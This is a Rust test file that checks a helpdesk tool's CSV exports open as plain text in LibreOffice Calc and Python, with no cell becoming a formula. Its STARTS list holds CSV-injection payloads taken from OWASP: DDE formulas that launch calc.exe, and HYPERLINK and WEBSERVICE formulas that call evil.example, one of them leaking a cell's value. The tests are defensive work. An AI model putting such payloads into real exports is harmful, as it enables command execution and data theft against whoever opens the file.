//! What we write as CSV has the same cells in a spreadsheet and in Python as in the program, and none is a formula.

use std::collections::BTreeSet;

use crate::hostile_text::{FORMULAS, HOSTILE, encoded, hostile};
use crate::libreoffice::{Cell, in_calc, in_python};
use crate::metrics_by_hand;
use crate::world::Mail;

/// What starts a program, or fetches something, where a cell is taken for a formula (OWASP, CSV injection).
const STARTS: [&str; 8] = [
    "=cmd|'/C calc.exe'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"A0\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "'=1+1",
    "a\",\"=1+1",
    ";=1+1",
];

fn cells(csv: &str) -> Vec<Vec<String>> {
    let reader = &mut csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// Calc shows a number, a truth and a time in its own way; whatever else is there is there as it was written.
fn is_same(cell: &Cell, text: &str) -> bool {
    match cell.kind.as_str() {
        "float" => cell.text.parse::<f64>().ok() == text.parse().ok(),
        "boolean" => cell.text.to_lowercase() == text,
        // To the minute, where we say no more.
        "date" => {
            cell.text.strip_suffix(":00").is_some_and(|minute| minute == text) || cell.text == text
        }
        _ => cell.text == text,
    }
}

/// Python and Calc have the cells that we wrote; gives the kinds that Calc has in each column, by its name.
#[track_caller]
fn open_everywhere(tables: &[String]) -> Vec<Vec<(String, Vec<String>)>> {
    let texts: Vec<&str> = tables.iter().map(String::as_str).collect();
    let opened = in_calc(&texts);
    texts.iter().zip(opened).map(|(csv, calc)| kinds(&same_cells(csv, &calc), &calc)).collect()
}

/// The cells, after all three were found to have the same.
#[track_caller]
fn same_cells(csv: &str, calc: &[Vec<Cell>]) -> Vec<Vec<String>> {
    assert!(csv.ends_with("\r\n") && !csv.replace("\r\n", "").contains(['\r', '\n']), "{csv}");
    let written = cells(csv);
    let columns = written[0].len();
    assert!(written.len() > 1 && written.iter().all(|row| row.len() == columns), "{csv}");
    assert_eq!(in_python(csv), written);
    assert_eq!(calc.len(), written.len());
    for (row, written) in calc.iter().zip(&written) {
        for (place, text) in written.iter().enumerate() {
            // Calc keeps nothing of the empty cells at the end of a row.
            let cell = row.get(place).cloned().unwrap_or_else(nothing);
            assert_eq!(cell.formula, None, "{text:?} is a formula");
            assert!(is_same(&cell, text), "{text:?} became {cell:?}");
        }
    }
    written
}

/// What Calc takes the cells of each column for, but for empty ones.
fn kinds(written: &[Vec<String>], calc: &[Vec<Cell>]) -> Vec<(String, Vec<String>)> {
    let kinds = |place: usize| -> Vec<String> {
        let cells = calc[1..].iter().filter_map(|row| row.get(place));
        let kinds: BTreeSet<String> = cells.map(|cell| cell.kind.clone()).collect();
        kinds.into_iter().filter(|kind| kind != "nothing").collect()
    };
    written[0].iter().enumerate().map(|(place, name)| (name.clone(), kinds(place))).collect()
}

fn nothing() -> Cell {
    Cell { kind: "nothing".to_owned(), text: String::new(), formula: None }
}

#[test]
fn a_spreadsheet_reckons_what_is_not_guarded() {
    // Otherwise the other tests would prove nothing.
    let csv = "a,b\r\n=1+1,'=1+1\r\n\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"A0\"\")\",-5\r\n";
    let calc = &in_calc(&[csv])[0];
    assert_eq!((calc[1][0].text.as_str(), calc[1][0].formula.as_deref()), ("2", Some("of:=1+1")));
    assert_eq!((calc[1][1].text.as_str(), &calc[1][1].formula), ("'=1+1", &None));
    assert!(calc[2][0].formula.is_some(), "{:?}", calc[2]);
    assert_eq!((calc[2][1].kind.as_str(), calc[2][1].text.as_str()), ("float", "-5"));
}

/// Columns of numbers.
const NUMBERS: [&str; 7] = ["n", "hits", "share", "sum", "p50", "p90", "excluded_n"];

#[test]
fn numbers_of_metrics_are_numbers_to_a_spreadsheet_and_all_else_is_text() {
    let world = metrics_by_hand::world();
    let tables = ["", "--by week", "--by owner", "--by tag", "--by inbox"].map(|by| {
        let words = format!("metrics --csv --examples 2 --from 2026-03-23 {by}");
        world.maya(&words).ok().stdout
    });
    for (name, kinds) in open_everywhere(&tables).into_iter().flatten() {
        match NUMBERS.contains(&name.as_str()) {
            true => assert!(kinds.iter().all(|kind| kind == "float"), "{name}: {kinds:?}"),
            // One example is a number.
            false if name == "examples" => {}
            false => assert!(kinds.iter().all(|kind| kind == "string"), "{name}: {kinds:?}"),
        }
    }
    let tables = ["metrics --by day", "metrics --rows", "metrics --rows replies"]
        .map(|words| world.maya(&format!("{words} --csv --from 2026-03-23")).ok().stdout);
    for (name, kinds) in open_everywhere(&tables).into_iter().flatten() {
        if name.ends_with("_at") || name.ends_with("owner") || name == "status" {
            assert!(kinds.iter().all(|kind| kind == "string"), "{name}: {kinds:?}");
        }
        if name.ends_with("_wall") || name.ends_with("_seconds") || name == "thread" {
            assert!(kinds.iter().all(|kind| kind == "float"), "{name}: {kinds:?}");
        }
    }
}

#[test]
fn whatever_a_stranger_writes_is_text_to_a_spreadsheet() {
    let texts: Vec<&str> = STARTS.into_iter().chain(FORMULAS).chain(HOSTILE).collect();
    let world = hostile(&texts);
    world.mail(Mail::raw(
        b"From: \xff\xfe=1+1 <raw@example.com>\nSubject: =\xe9t\xe9+1\nMessage-ID: <raw@x>\n\nHello\n",
    ));
    world.mail(Mail::from("Long <long@example.com>").subject(&encoded(&"=1+1 ".repeat(4_000))));
    for (text, thread) in STARTS.iter().zip(1..) {
        let quoted = shell_words::quote(text);
        world.maya(&format!("next {thread} {quoted} --due fri")).ok();
        world.maya(&format!("customer set {thread} --company {quoted} --phone +49301234567")).ok();
    }
    let tables = [
        "list --csv",
        "review --csv",
        "log --csv",
        "metrics --rows",
        "export messages",
        "export threads",
        "export entries",
        "export customers",
        "export tasks",
    ]
    .map(|words| world.admin(words).ok().stdout);
    open_everywhere(&tables);
    assert!(world.admin("export customers").ok().stdout.contains(",'+49301234567,"));
}
